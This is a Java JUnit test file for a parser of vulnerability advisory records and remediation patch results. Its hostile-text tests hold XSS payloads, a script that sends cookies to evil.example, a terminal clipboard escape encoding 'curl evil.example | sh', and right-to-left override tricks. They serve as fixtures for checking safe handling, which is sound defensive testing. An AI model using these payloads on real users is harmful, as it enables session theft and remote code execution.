package dev.immunity.core.json;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.immunity.core.model.AffectedPackage;
import dev.immunity.core.model.Apv;
import dev.immunity.core.model.AstGrepPattern;
import dev.immunity.core.model.Cvss;
import dev.immunity.core.model.Patch;
import dev.immunity.core.model.PatchDiff;
import dev.immunity.core.model.PatchStatus;
import dev.immunity.core.model.Priority;
import dev.immunity.core.model.TestResults;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Iterator;
import java.util.List;
import java.util.function.Consumer;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

/**
 * Parses the samples under {@code src/test/resources/wire/}, written from {@code wire-format.md} the way the
 * Python producers write them ({@code model_dump(mode="json")} plus {@code _published_at} and {@code _publisher}).
 */
class WireFormatTest {
    private static final Instant RECEIVED = Instant.parse("2025-10-11T15:00:00Z");

    // ---------------------------------------------------------------- APVs

    @Test
    void parseApv_naiveTimestamps_areUtc() {
        Apv apv = WireFormat.parseApv(sample("apv-naive-timestamps.json"));

        assertThat(apv.processedAt()).isEqualTo(Instant.parse("2025-10-11T14:30:22.123456Z"));
        assertThat(apv.published()).isEqualTo(Instant.parse("2025-10-09T18:15:10.947Z"));
        assertThat(apv.modified()).isEqualTo(Instant.parse("2025-10-10T07:02:44Z"));
        assertThat(apv.publishedAt()).isEqualTo(Instant.parse("2025-10-11T14:30:22.987654Z"));
    }

    @Test
    void parseApv_fullProducerMessage_givesEveryValue() {
        Apv expected = new Apv(
                "CVE-2025-31337",
                List.of("GHSA-7q2c-9x4m-h3vr", "PYSEC-2025-118"),
                Instant.parse("2025-10-09T18:15:10.947Z"),
                Instant.parse("2025-10-10T07:02:44Z"),
                Instant.parse("2025-10-11T14:30:22.123456Z"),
                "Django SQL injection in QuerySet.order_by() via crafted column aliases",
                "An issue was discovered in Django 4.2 before 4.2.25 and 5.1 before 5.1.13. QuerySet.order_by() and "
                        + "QuerySet.values() on models with a JSONField are subject to SQL injection in column aliases "
                        + "when a crafted dictionary is expanded as **kwargs. Applications that pass user-controlled "
                        + "keys to these methods are affected.",
                new Cvss("3.1", 9.8, "CRITICAL", "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", 3.9, 5.9),
                Priority.CRITICAL,
                List.of(new AffectedPackage("PyPI", "django", List.of("4.2.24", "5.1.12"), List.of("4.2.25", "5.1.13"),
                        "pkg:pypi/django@4.2.24", "4.2", null, true)),
                List.of(new AstGrepPattern("python", "$QS.order_by(**$KWARGS)", "critical",
                        "order_by() with expanded user-controlled keys")),
                "dependency_upgrade",
                "low",
                "Upgrade django to 4.2.25 (LTS) or 5.1.13.",
                Json.parse("""
                        {"affected_services": ["payments-api", "auth-service"], "exploit_available": true,
                         "deployment": "production"}"""),
                "OSV.dev",
                "1.0.0",
                true,
                true,
                true,
                List.of("payments-api", "auth-service"),
                Instant.parse("2025-10-11T14:30:22.987654Z"),
                "maximus_oraculo");

        assertThat(WireFormat.parseApv(sample("apv-naive-timestamps.json"))).isEqualTo(expected);
    }

    @Test
    void parseApv_offsetTimestamps_areConvertedToUtc() {
        Apv apv = WireFormat.parseApv(sample("apv-offset-timestamps.json"));

        assertThat(apv.published()).isEqualTo(Instant.parse("2025-03-02T09:15:00Z"));      // -05:00
        assertThat(apv.modified()).isEqualTo(Instant.parse("2025-03-04T09:20:31.500Z"));   // +02:00
        assertThat(apv.processedAt()).isEqualTo(Instant.parse("2025-10-11T14:30:22.123456Z"));
        assertThat(apv.publishedAt()).isEqualTo(Instant.parse("2025-10-11T14:30:23.000001Z")); // Z
        assertThat(apv.detectedAt()).isEqualTo(apv.processedAt());
        assertThat(apv.cvss()).isEqualTo(new Cvss("3.1", 7.4, "HIGH",
                "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:N", 2.2, 5.2));
        assertThat(apv.priority()).isEqualTo(Priority.HIGH);
        assertThat(apv.astGrepPatterns()).containsExactly(
                new AstGrepPattern("javascript", "_.merge($TARGET, $SOURCE)", "high", null));
        assertThat(apv.remediationNotes()).isNull();
        assertThat(apv.sourceFeed()).isEqualTo("NVD");
        assertThat(apv.affectedServices()).containsExactly("checkout-web");
        assertThat(apv.isCritical()).isFalse();
        assertThat(apv.requiresImmediateAction()).isFalse();
    }

    @Test
    void parseApv_unknownFields_areIgnoredAndMaximusContextIsKeptWhole() {
        Apv apv = WireFormat.parseApv(sample("apv-extra-fields.json"));

        assertThat(apv.cveId()).isEqualTo("CVE-2024-50379");
        assertThat(apv.published()).isEqualTo(Instant.parse("2024-12-17T13:15:16.123Z"));
        assertThat(apv.cvss()).isEqualTo(new Cvss("3.1", 8.1, "HIGH",
                "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:H", 2.2, 5.9));
        assertThat(apv.affectedPackages()).containsExactly(new AffectedPackage("Maven",
                "org.apache.tomcat.embed:tomcat-embed-core", List.of("10.1.33"), List.of("10.1.34"),
                "pkg:maven/org.apache.tomcat.embed/tomcat-embed-core@10.1.33", "10.1.0-M1", null, true));
        assertThat(apv.astGrepPatterns()).containsExactly(new AstGrepPattern("java",
                "$CTX.addServlet($NAME, new DefaultServlet())", "high", "Default servlet registered"));
        assertThat(apv.remediationComplexity()).isEqualTo("medium");
        assertThat(apv.oraculoVersion()).isEqualTo("1.1.0-rc2");
        assertThat(apv.maximusContext().path("repository").path("default_branch").asText()).isEqualTo("main");
        assertThat(apv.maximusContext().path("scan_id").asLong()).isEqualTo(981223L);
        assertThat(apv.publishedAt()).isEqualTo(Instant.parse("2025-10-11T14:30:22.500Z"));
    }

    @Test
    void parseApv_unknownFields_changeNothing() {
        ObjectNode withExtras = (ObjectNode) Json.parse(sample("apv-extra-fields.json"));
        ObjectNode stripped = withExtras.deepCopy();
        stripped.remove(List.of("schema_version", "cwe_ids", "references", "epss", "_trace_id"));
        ((ObjectNode) stripped.get("cvss")).remove(List.of("attack_vector", "source"));
        ((ObjectNode) stripped.get("affected_packages").get(0)).remove(List.of("ecosystem_specific", "database_specific"));
        ((ObjectNode) stripped.get("ast_grep_patterns").get(0)).remove("rule_id");

        assertThat(WireFormat.parseApv(withExtras)).isEqualTo(WireFormat.parseApv(stripped));
    }

    @Test
    void parseApv_minimal_fillsOptionalFieldsAndDerivesComputedOnes() {
        Apv apv = WireFormat.parseApv(sample("apv-minimal.json"));

        assertThat(apv.cveId()).isEqualTo("CVE-2025-1234");
        assertThat(apv.aliases()).isEmpty();
        assertThat(apv.published()).isNull();
        assertThat(apv.modified()).isNull();
        assertThat(apv.processedAt()).isEqualTo(Instant.parse("2025-10-11T14:30:22.123456Z"));
        assertThat(apv.cvss()).isNull();
        assertThat(apv.priority()).isEqualTo(Priority.MEDIUM);
        assertThat(apv.affectedPackages()).containsExactly(new AffectedPackage("npm", "semver",
                List.of("7.5.1"), List.of("7.5.2"), null, null, null, true));
        assertThat(apv.astGrepPatterns()).isEmpty();
        assertThat(apv.recommendedStrategy()).isEqualTo("dependency_upgrade");
        assertThat(apv.remediationComplexity()).isNull();
        assertThat(apv.remediationNotes()).isNull();
        assertThat(apv.maximusContext()).isEqualTo(Json.mapper().createObjectNode());
        assertThat(apv.sourceFeed()).isNull();
        assertThat(apv.oraculoVersion()).isNull();
        assertThat(apv.isCritical()).isFalse();
        assertThat(apv.requiresImmediateAction()).isFalse();
        assertThat(apv.hasAutomatedFix()).isTrue();
        assertThat(apv.affectedServices()).isEmpty();
        assertThat(apv.publishedAt()).isNull();
        assertThat(apv.publisher()).isNull();
    }

    @Test
    void parseApv_criticalPriority_isCritical() {
        Apv apv = WireFormat.parseApv(minimalWith(n -> n.put("priority", "critical")));

        assertThat(apv.isCritical()).isTrue();
        assertThat(apv.requiresImmediateAction()).as("no known exploit").isFalse();
    }

    @ParameterizedTest(name = "base_score {0} -> is_critical {1}")
    @CsvSource({"9.0, true", "10.0, true", "8.9, false", "0.0, false"})
    void parseApv_cvssScoreOfNineOrMore_isCriticalWhateverThePriority(double score, boolean critical) {
        Apv apv = WireFormat.parseApv(minimalWith(n -> n.set("cvss", Json.parse(
                "{\"version\":\"3.1\",\"base_score\":" + score + ",\"severity\":\"HIGH\",\"vector_string\":null}"))));

        assertThat(apv.isCritical()).isEqualTo(critical);
    }

    @Test
    void parseApv_criticalWithKnownExploit_requiresImmediateAction() {
        Apv apv = WireFormat.parseApv(minimalWith(n -> {
            n.put("priority", "critical");
            n.set("maximus_context", Json.parse("{\"exploit_available\": true}"));
        }));

        assertThat(apv.requiresImmediateAction()).isTrue();
    }

    @Test
    void parseApv_noFixedVersions_hasNoAutomatedFix() {
        Apv apv = WireFormat.parseApv(minimalWith(n ->
                ((ObjectNode) n.get("affected_packages").get(0)).set("fixed_versions", Json.parse("[]"))));

        assertThat(apv.affectedPackages().get(0).hasFix()).isFalse();
        assertThat(apv.hasAutomatedFix()).isFalse();
    }

    @Test
    void parseApv_computedFieldsSent_winOverDerivation() {
        Apv apv = WireFormat.parseApv(minimalWith(n -> {
            n.put("priority", "critical");
            n.put("is_critical", false);
            n.put("requires_immediate_action", true);
            n.put("has_automated_fix", false);
        }));

        assertThat(apv.isCritical()).isFalse();
        assertThat(apv.requiresImmediateAction()).isTrue();
        assertThat(apv.hasAutomatedFix()).isFalse();
    }

    @Test
    void parseApv_withoutTopLevelAffectedServices_takesThemFromMaximusContext() {
        Apv apv = WireFormat.parseApv(minimalWith(n ->
                n.set("maximus_context", Json.parse("{\"affected_services\": [\"auth-service\", \"orders-api\"]}"))));

        assertThat(apv.affectedServices()).containsExactly("auth-service", "orders-api");
    }

    @Test
    void parseApv_nullTopLevelAffectedServices_takesThemFromMaximusContext() {
        Apv apv = WireFormat.parseApv(minimalWith(n -> {
            n.putNull("affected_services");
            n.set("maximus_context", Json.parse("{\"affected_services\": [\"auth-service\"]}"));
        }));

        assertThat(apv.affectedServices()).containsExactly("auth-service");
    }

    @Test
    void parseApv_topLevelAffectedServices_winOverMaximusContext() {
        Apv apv = WireFormat.parseApv(minimalWith(n -> {
            n.set("affected_services", Json.parse("[\"payments-api\"]"));
            n.set("maximus_context", Json.parse("{\"affected_services\": [\"auth-service\"]}"));
        }));

        assertThat(apv.affectedServices()).containsExactly("payments-api");
    }

    @Test
    void parseApv_lowerCaseCveId_isNormalisedToUpperCase() {
        Apv apv = WireFormat.parseApv(minimalWith(n -> n.put("cve_id", " cve-2025-1234 ")));

        assertThat(apv.cveId()).isEqualTo("CVE-2025-1234");
    }

    @Test
    void parseApv_hostileText_isPreservedExactly() {
        Apv apv = WireFormat.parseApv(sample("apv-hostile-text.json"));

        assertThat(apv.summary()).isEqualTo(
                "<img src=x onerror=alert(1)> XSS \u001b[2J\u001b[H in <script>alert('summary')</script>");
        assertThat(apv.details()).isEqualTo("Line one\r\nLine two\b\b\b\bBACKSPACED\n"
                + "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007 clipboard write\n"
                + "\u202egnp.exe\u202c right-to-left override\n"
                + "| markdown | table |\n"
                + "[link](javascript:alert(1)) \ud83d\udca5");
        assertThat(apv.remediationNotes())
                .isEqualTo("<script>document.location='https://evil.example/?c='+document.cookie</script>");
        assertThat(apv.affectedServices()).containsExactly("docs-portal\u001b[31m", "<b>admin</b>", "\u202eipa-stnemyap");
        assertThat(apv.aliases()).containsExactly("GHSA-xss0-<b>-x");
    }

    @Test
    void parseApv_hostileText_survivesTheRoundTrip() {
        Apv apv = WireFormat.parseApv(sample("apv-hostile-text.json"));

        assertThat(WireFormat.parseApv(Json.write(apv))).isEqualTo(apv);
    }

    @Test
    void parseApv_longDetails_arePreservedUpToTheLimit_andRefusedBeyondIt() {
        String details = "A".repeat(20) + "<p>".repeat((WireFormat.MAX_DETAILS_CHARS - 20) / 3);
        Apv apv = WireFormat.parseApv(minimalWith(n -> n.put("details", details)));
        assertThat(apv.details()).isEqualTo(details);

        String tooLong = "A".repeat(WireFormat.MAX_DETAILS_CHARS + 1);
        assertThatThrownBy(() -> WireFormat.parseApv(minimalWith(n -> n.put("details", tooLong))))
                .isInstanceOf(InvalidEventException.class).hasMessageContaining("details")
                .hasMessageContaining("at most " + WireFormat.MAX_DETAILS_CHARS);
        String longSummary = "S".repeat(WireFormat.MAX_SUMMARY_CHARS + 1);
        assertThatThrownBy(() -> WireFormat.parseApv(minimalWith(n -> n.put("summary", longSummary))))
                .isInstanceOf(InvalidEventException.class).hasMessageContaining("summary");
    }

    @Test
    void parseApv_utf8Bytes_areDecodedAsUtf8() {
        String text = sample("apv-minimal.json").replace("ReDoS in semver", "ReDoS in sémver ‮");

        assertThat(WireFormat.parseApv(Json.parse(text.getBytes(StandardCharsets.UTF_8))).summary())
                .isEqualTo("ReDoS in sémver ‮ range parsing");
    }

    // ---------------------------------------------------------------- patches

    @Test
    void parsePatch_successfulRemediationResult_mergesApvPatchAndStatus() {
        Patch patch = WireFormat.parsePatch(sample("remediation-result-success.json"), RECEIVED);

        assertThat(patch).isEqualTo(new Patch(
                "patch-CVE-2025-31337-20251011-143040",
                "CVE-2025-31337",
                PatchStatus.MERGED,
                "dependency_upgrade",
                0.95,
                List.of("requirements.txt"),
                5,
                true,
                new TestResults(0, "================ 412 passed in 38.21s ================", "", 38.21),
                "remediation/CVE-2025-31337",
                "9c1f0e4b7a2d35e8f6b1c0a9d8e7f6a5b4c3d2e1",
                "https://github.com/example-org/payments-api/pull/1287",
                null,
                Instant.parse("2025-10-11T14:30:40.101010Z"),
                Instant.parse("2025-10-11T14:30:23.000100Z"),
                Instant.parse("2025-10-11T14:33:30.500Z"),
                187.4999,
                List.of("dependency_upgrade"),
                Instant.parse("2025-10-11T14:33:30.500Z"),
                PatchDiff.of("--- a/requirements.txt\n+++ b/requirements.txt\n@@ -3,3 +3,3 @@\n-django==4.2.24\n+django==4.2.25\n")));
    }

    @Test
    void parsePatch_terminalRemediationResult_happensWhenItCompleted() {
        Patch patch = WireFormat.parsePatch(sample("remediation-result-success.json"), RECEIVED);

        assertThat(patch.updatedAt()).isEqualTo(patch.completedAt()).isNotEqualTo(RECEIVED);
    }

    @Test
    void parsePatch_openRemediationResult_happensWhenItWasPublished() {
        Patch patch = WireFormat.parsePatch(resultWith(n -> {
            n.put("status", "validating");
            n.putNull("completed_at");
        }), RECEIVED);

        assertThat(patch.status()).isEqualTo(PatchStatus.VALIDATING);
        assertThat(patch.completedAt()).isNull();
        assertThat(patch.updatedAt()).isEqualTo(Instant.parse("2025-10-11T14:33:30.612Z"));
    }

    @Test
    void parsePatch_remediationResultWithoutTimes_happensWhenReceived() {
        Patch patch = WireFormat.parsePatch(resultWith(n -> {
            n.put("status", "applied");
            n.remove(List.of("completed_at", "_published_at"));
        }), RECEIVED);

        assertThat(patch.updatedAt()).isEqualTo(RECEIVED);
    }

    @Test
    void parsePatch_failedRemediationResultWithoutPatch_getsARemediationIdFromItsStartInUtc() {
        Patch patch = WireFormat.parsePatch(sample("remediation-result-failed-no-patch.json"), RECEIVED);

        assertThat(patch).isEqualTo(new Patch(
                "remediation-CVE-2025-1234-20251011-143105",   // started_at 16:31:05.25+02:00
                "CVE-2025-1234",
                PatchStatus.FAILED,
                "code_patch",                                   // the last strategy attempted
                null, List.of(), null, null, null, null, null, null,
                "All strategies failed: dependency_upgrade: no version of semver satisfies ^6.0.0 and >=7.5.2; "
                        + "code_patch: generated patch failed validation (2 tests failed)",
                null,
                Instant.parse("2025-10-11T14:31:05.250Z"),
                Instant.parse("2025-10-11T14:33:12.750Z"),
                null,
                List.of("dependency_upgrade", "code_patch"),
                Instant.parse("2025-10-11T14:33:12.750Z"),
                null));
    }

    @Test
    void parsePatch_remediationResultWithoutApv_takesTheCveFromItsPatch() {
        Patch patch = WireFormat.parsePatch(resultWith(n -> n.putNull("apv")), RECEIVED);

        assertThat(patch.cveId()).isEqualTo("CVE-2025-31337");
        assertThat(patch.patchId()).isEqualTo("patch-CVE-2025-31337-20251011-143040");
    }

    @Test
    void parsePatch_remediationResultWithNeitherApvNorPatch_isRejected() {
        assertInvalid(() -> WireFormat.parsePatch(resultWith(n -> {
            n.putNull("apv");
            n.putNull("patch");
        }), RECEIVED), "apv", "must carry an apv or a patch");
    }

    @Test
    void parsePatch_remediationResultWithOnlyATopLevelCveId_takesTheCveFromIt() {
        Patch patch = WireFormat.parsePatch(resultWith(n -> {
            n.putNull("apv");
            n.putNull("patch");
            n.put("cve_id", "CVE-2025-31337");
        }), RECEIVED);

        assertThat(patch.cveId()).isEqualTo("CVE-2025-31337");
        assertThat(patch.patchId()).isEqualTo("remediation-CVE-2025-31337-20251011-143023");
    }

    @Test
    void parsePatch_remediationResultWhoseTopLevelCveIdDisagrees_isRejected() {
        assertInvalid(() -> WireFormat.parsePatch(resultWith(n -> n.put("cve_id", "CVE-2025-9999")), RECEIVED),
                "cve_id", "must match the CVE of the patch (CVE-2025-31337)");
    }

    @Test
    void parsePatch_remediationResultWhosePatchNamesAnotherCve_isRejected() {
        assertInvalid(() -> WireFormat.parsePatch(resultWith(n ->
                        ((ObjectNode) n.get("patch")).put("cve_id", "CVE-2025-9999")), RECEIVED),
                "patch.cve_id", "must match apv.cve_id (CVE-2025-31337)");
    }

    @Test
    void parsePatch_barePatchWithoutStatus_isPendingAndHappensWhenReceived() {
        Patch patch = WireFormat.parsePatch(sample("patch-bare.json"), RECEIVED);

        assertThat(patch).isEqualTo(new Patch(
                "patch-CVE-2025-1234-20251011-143125",
                "CVE-2025-1234",
                PatchStatus.PENDING,
                "dependency_upgrade",
                0.92,
                List.of("package.json", "package-lock.json"),
                5,
                true,
                new TestResults(0, "Test Suites: 42 passed, 42 total\nTests:       318 passed, 318 total", "", 41.7),
                "remediation/CVE-2025-1234",
                "3f5e2a9c8b7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f",
                "https://github.com/example-org/checkout-web/pull/412",
                null,
                Instant.parse("2025-10-11T14:31:25.500Z"),
                null, null, null, List.of(),
                RECEIVED,
                PatchDiff.of("--- a/package.json\n+++ b/package.json\n@@ -12,7 +12,7 @@\n-    \"semver\": \"7.5.1\",\n+    \"semver\": \"7.5.2\",\n")));
    }

    @Test
    void parsePatch_barePatchWithStatus_takesItsStatusAndPublicationTime() {
        Patch bare = WireFormat.parsePatch(sample("patch-bare.json"), RECEIVED);
        Patch withStatus = WireFormat.parsePatch(sample("patch-bare-with-status.json"), RECEIVED);

        assertThat(withStatus.status()).isEqualTo(PatchStatus.APPLIED);
        assertThat(withStatus.updatedAt()).isEqualTo(Instant.parse("2025-10-11T14:32:01.250Z"));
        assertThat(withStatus.withStatus(PatchStatus.PENDING, RECEIVED)).isEqualTo(bare);
    }

    @ParameterizedTest
    @ValueSource(strings = {"remediation-result-success.json", "remediation-result-failed-no-patch.json",
            "patch-bare.json", "patch-bare-with-status.json"})
    void parsePatch_bothShapes_giveTheSameCveIdAsCveIdOf(String file) {
        JsonNode json = Json.parse(sample(file));

        assertThat(WireFormat.cveIdOf(json)).isEqualTo(WireFormat.parsePatch(json, RECEIVED).cveId());
    }

    // ---------------------------------------------------------------- invalid input

    @ParameterizedTest(name = "{0} -> {2}")
    @CsvSource(delimiter = '|', textBlock = """
            malformed-truncated.json                         | apv   |                                   | malformed JSON at line
            malformed-trailing-data.json                     | apv   |                                   | malformed JSON at line 1, column 1796: unexpected data after the JSON value
            malformed-single-quotes.json                     | apv   |                                   | malformed JSON at line 1
            apv-missing-cve-id.json                          | apv   | cve_id                            | is required
            apv-bad-cve-id.json                              | apv   | cve_id                            | must look like CVE-YYYY-NNNN (got "CVE-25-31337")
            apv-bad-priority.json                            | apv   | priority                          | must be one of critical, high, medium, low (got "urgent")
            apv-priority-number.json                         | apv   | priority                          | must be a string (got number)
            apv-aliases-string.json                          | apv   | aliases                           | must be an array of strings (got string)
            apv-empty-affected-packages.json                 | apv   | affected_packages                 | must not be empty
            apv-package-without-name.json                    | apv   | affected_packages[1].name         | is required
            apv-summary-too-short.json                       | apv   | summary                           | must be at least 10 characters (got 3)
            apv-cvss-score-11.json                           | apv   | cvss.base_score                   | must be between 0.0 and 10.0 (got 11.0)
            apv-bad-timestamp.json                           | apv   | processed_at                      | must be an ISO-8601 timestamp
            patch-status-unknown.json                        | patch | status                            | must be one of pending, validating, applied, merged, failed, rolled_back (got "deployed")
            patch-confidence-above-1.json                    | patch | confidence_score                  | must be between 0.0 and 1.0 (got 1.7)
            remediation-result-status-unknown.json           | patch | status                            | (got "done")
            remediation-result-apv-package-without-name.json | patch | apv.affected_packages[0].name     | is required
            remediation-result-bad-completed-at.json         | patch | completed_at                      | must be an ISO-8601 timestamp
            """)
    void parse_invalidSample_namesTheFieldAndWhatIsWrong(String file, String kind, String field, String problem) {
        String json = sample("invalid/" + file);
        Runnable parse = kind.equals("apv") ? () -> WireFormat.parseApv(json) : () -> WireFormat.parsePatch(json, RECEIVED);

        InvalidEventException e = assertInvalid(parse::run, field == null ? "" : field, problem);
        assertThat(e.getMessage()).startsWith(field == null ? "malformed JSON" : field + ": ");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "   ", "null", "[]", "\"CVE-2025-1234\"", "42"})
    void parseApv_emptyOrNonObjectMessage_isRejectedAsAWhole(String json) {
        InvalidEventException e = catchThrowableOfType(InvalidEventException.class, () -> WireFormat.parseApv(json));

        assertThat(e).isNotNull();
        assertThat(e.field()).isEmpty();
        assertThat(e.getMessage()).containsAnyOf("empty message", "must be a JSON object");
    }

    @Test
    void invalidEvent_hostileValue_isEchoedWithoutControlOrFormattingCharacters() {
        InvalidEventException e = assertInvalid(() -> WireFormat.parseApv(minimalWith(n ->
                n.put("priority", "\u001b[2J\u001b]52;c;ZXZpbA==\u0007\u202eurgent\u2028x"))), "priority", "must be one of");

        assertThat(e.getMessage().codePoints())
                .noneMatch(c -> Character.isISOControl(c) || Character.getType(c) == Character.FORMAT
                        || Character.getType(c) == Character.LINE_SEPARATOR
                        || Character.getType(c) == Character.PARAGRAPH_SEPARATOR);
        assertThat(e.getMessage()).contains("urgent");
    }

    @Test
    void invalidEvent_malformedHostileJson_isReportedWithoutControlOrFormattingCharacters() {
        InvalidEventException e = catchThrowableOfType(InvalidEventException.class,
                () -> WireFormat.parseApv("{\"cve_id\": \u202e\u001b[2J}"));

        assertThat(e.getMessage()).startsWith("malformed JSON");
        assertThat(e.getMessage().codePoints())
                .noneMatch(c -> Character.isISOControl(c) || Character.getType(c) == Character.FORMAT);
    }

    @Test
    void parseApv_nestedInvalidValue_namesTheFullPath() {
        assertInvalid(() -> WireFormat.parseApv(minimalWith(n ->
                        ((ObjectNode) n.get("affected_packages").get(0)).set("fixed_versions", Json.parse("[\"1.0\", 2]")))),
                "affected_packages[0].fixed_versions[1]", "must be a string (got number)");
        assertInvalid(() -> WireFormat.parseApv(minimalWith(n -> n.set("affected_packages", Json.parse("[\"semver\"]")))),
                "affected_packages[0]", "must be a JSON object (got string)");
        assertInvalid(() -> WireFormat.parseApv(minimalWith(n -> n.put("maximus_context", "prod"))),
                "maximus_context", "must be a JSON object (got string)");
    }

    // ---------------------------------------------------------------- writing

    @ParameterizedTest
    @ValueSource(strings = {"apv-naive-timestamps.json", "apv-offset-timestamps.json", "apv-extra-fields.json",
            "apv-minimal.json", "apv-hostile-text.json"})
    void writeApv_reparsed_givesAnEqualRecord(String file) {
        Apv apv = WireFormat.parseApv(sample(file));

        assertThat(WireFormat.parseApv(Json.write(apv))).isEqualTo(apv);
        assertThat(WireFormat.parseApv(WireFormat.toWire(apv))).isEqualTo(apv);
    }

    @Test
    void writeApv_usesTheProducersSnakeCaseNamesAndUtcTimestamps() {
        JsonNode written = Json.parse(Json.write(WireFormat.parseApv(sample("apv-offset-timestamps.json"))));

        assertThat(iterable(written.fieldNames())).containsExactly(
                "cve_id", "aliases", "published", "modified", "processed_at", "summary", "details", "cvss",
                "priority", "affected_packages", "ast_grep_patterns", "recommended_strategy",
                "remediation_complexity", "remediation_notes", "maximus_context", "source_feed", "oraculo_version",
                "is_critical", "requires_immediate_action", "has_automated_fix", "affected_services",
                "_published_at", "_publisher");
        assertThat(iterable(written.get("cvss").fieldNames())).containsExactly(
                "version", "base_score", "severity", "vector_string", "exploitability_score", "impact_score");
        assertThat(iterable(written.get("affected_packages").get(0).fieldNames())).containsExactly(
                "ecosystem", "name", "affected_versions", "fixed_versions", "purl", "introduced", "last_affected",
                "has_fix");
        assertThat(written.get("published").asText()).isEqualTo("2025-03-02T09:15:00Z");
        assertThat(written.get("modified").asText()).isEqualTo("2025-03-04T09:20:31.500Z");
        assertThat(written.get("processed_at").asText()).isEqualTo("2025-10-11T14:30:22.123456Z");
        assertThat(written.get("_published_at").asText()).isEqualTo("2025-10-11T14:30:23.000001Z");
        assertThat(written.get("_publisher").asText()).isEqualTo("maximus_oraculo");
        assertThat(written.get("priority").asText()).isEqualTo("high");
        assertThat(written.get("is_critical").isBoolean()).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"remediation-result-success.json", "remediation-result-failed-no-patch.json",
            "patch-bare.json", "patch-bare-with-status.json"})
    void writePatch_reparsed_givesAnEqualRecord(String file) {
        Patch patch = WireFormat.parsePatch(sample(file), RECEIVED);

        String written = Json.write(WireFormat.toWire(patch));

        assertThat(WireFormat.parsePatch(written, RECEIVED.plusSeconds(3600))).isEqualTo(patch);
    }

    @Test
    void writePatch_barePatch_usesTheProducersNamesAndUtcTimestamps() {
        Patch patch = WireFormat.parsePatch(sample("patch-bare-with-status.json"), RECEIVED);

        JsonNode written = WireFormat.toWire(patch);

        assertThat(written.get("patch_id").asText()).isEqualTo("patch-CVE-2025-1234-20251011-143125");
        assertThat(written.get("status").asText()).isEqualTo("applied");
        assertThat(written.get("strategy_used").asText()).isEqualTo("dependency_upgrade");
        assertThat(written.get("confidence_score").asDouble()).isEqualTo(0.92);
        assertThat(written.get("generated_at").asText()).isEqualTo("2025-10-11T14:31:25.500Z");
        assertThat(written.get("_published_at").asText()).isEqualTo("2025-10-11T14:32:01.250Z");
        assertThat(written.get("test_results").get("duration_seconds").asDouble()).isEqualTo(41.7);
        assertThat(written.has("strategy_attempts")).isFalse();
    }

    @Test
    void writePatch_remediationResultWithoutPatch_staysARemediationResult() {
        Patch patch = WireFormat.parsePatch(sample("remediation-result-failed-no-patch.json"), RECEIVED);

        JsonNode written = WireFormat.toWire(patch);

        assertThat(written.get("patch").isNull()).isTrue();
        assertThat(written.get("apv").isNull()).isTrue();
        assertThat(written.get("started_at").asText()).isEqualTo("2025-10-11T14:31:05.250Z");
        assertThat(written.get("strategy_attempts")).hasSize(2);
    }

    // ---------------------------------------------------------------- helpers

    private static InvalidEventException assertInvalid(Runnable parse, String field, String problem) {
        InvalidEventException e = catchThrowableOfType(InvalidEventException.class, parse::run);
        assertThat(e).as("expected an InvalidEventException").isNotNull();
        assertThat(e.field()).isEqualTo(field);
        assertThat(e.getMessage()).contains(problem);
        return e;
    }

    private static JsonNode minimalWith(Consumer<ObjectNode> change) {
        ObjectNode node = (ObjectNode) Json.parse(sample("apv-minimal.json"));
        change.accept(node);
        return node;
    }

    private static JsonNode resultWith(Consumer<ObjectNode> change) {
        ObjectNode node = (ObjectNode) Json.parse(sample("remediation-result-success.json"));
        change.accept(node);
        return node;
    }

    private static <T> Iterable<T> iterable(Iterator<T> it) {
        return () -> it;
    }

    static String sample(String name) {
        try (InputStream in = WireFormatTest.class.getResourceAsStream("/wire/" + name)) {
            if (in == null) {
                throw new IllegalArgumentException("no sample /wire/" + name);
            }
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
